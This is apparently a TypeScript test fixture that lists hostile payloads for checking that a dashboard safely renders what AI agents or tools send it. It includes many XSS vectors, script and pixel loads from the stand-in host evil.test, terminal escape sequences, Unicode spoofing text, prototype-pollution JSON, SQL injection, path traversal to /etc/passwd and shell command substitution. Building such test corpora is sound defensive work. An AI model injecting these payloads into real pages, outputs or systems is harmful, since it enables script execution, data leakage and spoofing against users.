/**
 * What an agent, its caller or a tool might write to do something to whoever looks at it. Each has a
 * number in front, by which a page shows that it has it. `__pwned` is what a test listens for.
 */

const BAD = '__pwned';
const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** Elements and attributes that run something. */
const MARKUP = [
  `<script>${BAD}(1)</script>`,
  `<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`,
  `<script>import('https://evil.test/x.js')</script>`,
  `"><script>${BAD}(2)</script>`,
  `'><script>${BAD}(3)</script>`,
  `</script><script>${BAD}(4)</script>`,
  `</title><script>${BAD}(5)</script>`,
  `</textarea><script>${BAD}(6)</script>`,
  `</pre><script>${BAD}(7)</script>`,
  `--><script>${BAD}(8)</script>`,
  `]]><script>${BAD}(9)</script>`,
  `<scr<script>ipt>${BAD}(10)</scr</script>ipt>`,
  `<img src=x onerror=${BAD}(11)>`,
  `<img src="x" onerror="${BAD}(12)">`,
  `<img src=https://evil.test/pixel.png>`,
  `<img srcset="https://evil.test/a 1x">`,
  `<svg onload=${BAD}(13)>`,
  `<svg><script>${BAD}(14)</script></svg>`,
  `<svg><animate onbegin=${BAD}(15) attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe src=javascript:${BAD}(16)></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${BAD}(17)>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img src onerror=${BAD}(18)>`,
  `<body onload=${BAD}(19)>`,
  `<body onpageshow=${BAD}(20)>`,
  `<details open ontoggle=${BAD}(21)>x</details>`,
  `<input autofocus onfocus=${BAD}(22)>`,
  `<select autofocus onfocus=${BAD}(23)>`,
  `<video><source onerror=${BAD}(24)></video>`,
  `<audio src=x onerror=${BAD}(25)>`,
  `<marquee onstart=${BAD}(26)>x</marquee>`,
  `<div onpointerover=${BAD}(27) style="position:fixed;inset:0">x</div>`,
  `<a href=javascript:${BAD}(28) autofocus>x</a>`,
  `<a href="java&#10;script:${BAD}(29)">x</a>`,
  `<form action=javascript:${BAD}(30)><button autofocus>x</button></form>`,
  `<button formaction=javascript:${BAD}(31)>x</button>`,
  `<iframe src=javascript:${BAD}(32)></iframe>`,
  `<iframe srcdoc="<script>parent.${BAD}(33)</script>"></iframe>`,
  `<object data=javascript:${BAD}(34)></object>`,
  `<embed src=javascript:${BAD}(35)>`,
  `<base href=https://evil.test/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<link rel=stylesheet href=https://evil.test/x.css>`,
  `<link rel=preload as=script href=https://evil.test/x.js>`,
  `<template shadowrootmode=open><script>${BAD}(36)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${BAD}(37)>">`,
  `<x-element onclick=${BAD}(38)>x</x-element>`,
  `<dialog open>Session over. <input placeholder="token"></dialog>`,
  `<h1 id=root>gone</h1>`,
  `<form id=root name=body><input name=children></form>`,
];

/** Addresses, entities and encodings that become something elsewhere. */
const DISGUISES = [
  `javascript:${BAD}(40)`,
  `JaVaScRiPt:${BAD}(41)`,
  ` javascript:${BAD}(42)`,
  `javascript://%0a${BAD}(43)`,
  `data:text/html,<script>${BAD}(44)</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDQ1KTwvc2NyaXB0Pg==`,
  `vbscript:${BAD}(46)`,
  `blob:https://evil.test/x`,
  `//evil.test/x`,
  `\\\\evil.test\\x`,
  `https://evil.test/`,
  `https://127.0.0.1@evil.test/`,
  `&lt;script&gt;${BAD}(47)&lt;/script&gt;`,
  `&#60;img src=x onerror=${BAD}(48)&#62;`,
  `%3Cscript%3E${BAD}(49)%3C/script%3E`,
  `\\u003cscript\\u003e${BAD}(50)`,
  `+ADw-script+AD4-${BAD}(51)+ADw-/script+AD4-`,
  `[x](javascript:${BAD}(52))`,
  `![x](https://evil.test/pixel.png)`,
  `[x]: javascript:${BAD}(53)`,
  `<https://evil.test/>`,
  '```html\n<script>__pwned(54)</script>\n```',
  `# Heading\n\n| a | b |\n|---|---|\n| <img src=x onerror=${BAD}(55)> | |`,
  `{{constructor.constructor('${BAD}(56)')()}}`,
  `\${${BAD}(57)}`,
  `<%= ${BAD}(58) %>`,
  `#{${BAD}(59)}`,
  `{"__html":"<img src=x onerror=${BAD}(60)>"}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${BAD}(61)"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${BAD}(62)>"}}`,
  `=cmd|'/c calc'!A0`,
  `'); DROP TABLE events; --`,
  `../../../../etc/passwd`,
  `..%2f..%2fetc%2fpasswd`,
  `$(touch /tmp/pwned) \`touch /tmp/pwned\``,
];

/** JSON that changes what it is put into, or costs much to show. */
const JSON_VALUES = [
  `{"__proto__":{"polluted":true,"toString":1}}`,
  `{"constructor":{"prototype":{"polluted":true}}}`,
  `{"hasOwnProperty":1,"valueOf":2,"then":3,"length":-1}`,
  `{"then":"function(){${BAD}(70)}","toJSON":1}`,
  `{"a":1,"a":2,"":3,"\\u0000":4}`,
  `[1e999,-1e999,9007199254740993,0.1e-400,123456789012345678901234567890]`,
  `{"n":${'9'.repeat(4_000)}}`,
  `${'['.repeat(2_000)}${']'.repeat(2_000)}`,
  `${'{"a":'.repeat(1_500)}1${'}'.repeat(1_500)}`,
  `{"${'k'.repeat(5_000)}":"${'v'.repeat(5_000)}"}`,
  `[${Array.from({ length: 5_000 }, (_, i) => i).join(',')}]`,
  `{${Array.from({ length: 2_000 }, (_, i) => `"k${i}":${i}`).join(',')}}`,
  `{"choices":[{"message":{"content":"<img src=x onerror=${BAD}(71)>"}}]}`,
  `{"messages":[{"role":"<script>${BAD}(72)</script>","content":[{"type":"image_url","image_url":{"url":"https://evil.test/p.png"}}]}]}`,
  `{"unfinished": "`,
  `"\\ud800"`,
  `null`,
  `NaN`,
];

/** What a terminal would do, and a page must not. */
const TERMINAL = [
  `${ESC}[31mred${ESC}[0m plain`,
  `${ESC}[38;2;255;0;0m${ESC}[48;5;200mcolours${ESC}[0m`,
  `${ESC}[8mhidden${ESC}[28m`,
  `${ESC}[2J${ESC}[H`,
  `${ESC}[1A${ESC}[2Kover the line before`,
  `${ESC}[9999;9999H${ESC}[9999A`,
  `${ESC}[?1049h${ESC}[?25l`,
  `${ESC}c`,
  `${ESC}]0;pwned title${BEL}`,
  `${ESC}]2;pwned title${ST}`,
  `${ESC}]8;;javascript:${BAD}(80)${ST}click${ESC}]8;;${ST}`,
  `${ESC}]8;;https://evil.test/${BEL}click${ESC}]8;;${BEL}`,
  `${ESC}]52;c;cHduZWQ=${BEL}`,
  `${ESC}]1337;File=inline=1:AAAA${BEL}`,
  `${ESC}P+q544e${ST}`,
  `${ESC}[5n${ESC}[c${ESC}[>c${ESC}[21t`,
  `${ESC}[?1000h${ESC}[?2004h`,
  `${ESC}_Gf=100;AAAA${ST}`,
  `${ESC}[${'1;'.repeat(2_000)}m`,
  `${ESC}]0;${'x'.repeat(20_000)}`,
  `\u009b31mC1 control${'\u009b'}0m`,
  `\u009d0;pwned title\u009c`,
  `\bback\b\b\b\b\rreturn`,
  Array.from({ length: 32 }, (_, i) => String.fromCharCode(i))
    .join('')
    .replace('\n', ''),
  Array.from({ length: 33 }, (_, i) => String.fromCharCode(0x7f + i)).join(''),
];

/** Text that turns, hides or bursts what is around it. */
const TEXT = [
  `\u202egnp.exe`,
  `\u202d\u202e\u202a\u202b${'x'.repeat(20)}`,
  `\u2066\u2067\u2068 no end`,
  `access\u202e\u2066// admin\u2069\u2066`,
  `\u200badmin\u200b`,
  `ad\u00admin\u2060\ufeff`,
  `\ufeffbegins with a mark`,
  `line\u2028separator\u2029paragraph`,
  `\u061c\u200e\u200f`,
  `\u{e0041}\u{e0042}\u{e007f}tags`,
  `${'\u0301'.repeat(500)}`,
  `Z${'\u030d\u030e\u0304\u0305\u033f\u0311\u0306\u0310\u0352\u0357'.repeat(40)}algo`,
  `\u0e4e\u0e4e${'\u0e4e'.repeat(300)}`,
  `مرحبا بالعالم שלום עולם`,
  `\u05d0\u05d1\u05d2 123 <b> \u05d3`,
  `${'\ufdfd'.repeat(200)}`,
  `${'W'.repeat(20_000)}`,
  `${'\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(500)}`,
  `${'\t'.repeat(2_000)}x`,
  `${'\u00a0'.repeat(2_000)}x`,
  `${'\u3000'.repeat(2_000)}x`,
  `аdmin (Cyrillic)`,
  `\ud800 lone`,
  `lone \udfff`,
  `\u0000nul\u0000`,
  `\ufffe\uffff\ufdd0`,
  `a\u034f\u115f\u17b4\u3164\uffa0b`,
  ``,
  ` `,
];

/** Styles, and ways around a policy of content. */
const STYLES = [
  `<style>*{display:none}</style>`,
  `<style>@import 'https://evil.test/x.css'</style>`,
  `</style><script>${BAD}(90)</script>`,
  `<div style="position:fixed;inset:0;z-index:2147483647;background:red">over all</div>`,
  `x;background:url(https://evil.test/p.png)`,
  `expression(${BAD}(91))`,
  `;}*{display:none}`,
  `<script src=/v1/sessions/current></script>`,
  `<script src=/dashboard/assets/../../agents/hostile/x.js></script>`,
  `<script nonce="" src="data:,${BAD}(92)"></script>`,
  `<script type=module src=/agents/hostile/x.js></script>`,
  `<iframe src=/agents/hostile/></iframe>`,
  `<object data=/agents/hostile/ type=text/html></object>`,
  `<a ping=https://evil.test/ href=/dashboard/>x</a>`,
  `<portal src=https://evil.test/>`,
];

export interface Payload {
  /** `p017`: stands in front of the text. */
  readonly mark: string;
  readonly text: string;
}

export const PAYLOADS: readonly Payload[] = [
  ...[...MARKUP, ...DISGUISES, ...JSON_VALUES, ...TERMINAL, ...TEXT, ...STYLES],
].map((text, index) => {
  const mark = `p${String(index).padStart(3, '0')}`;
  return { mark, text };
});

/** As an agent's answer may call what it sends. */
export const CONTENT_TYPES = [
  'text/html; charset=utf-8',
  'image/svg+xml',
  'application/json',
  'text/plain; charset=utf-8',
  'text/markdown',
  'application/xhtml+xml',
  'text/event-stream',
  'multipart/x-mixed-replace; boundary=x',
  'application/octet-stream',
] as const;

/** What a header can carry of it. */
export function asHeader(text: string): string {
  return text.replace(/[\r\n\0]/g, ' ').slice(0, 2_000);
}
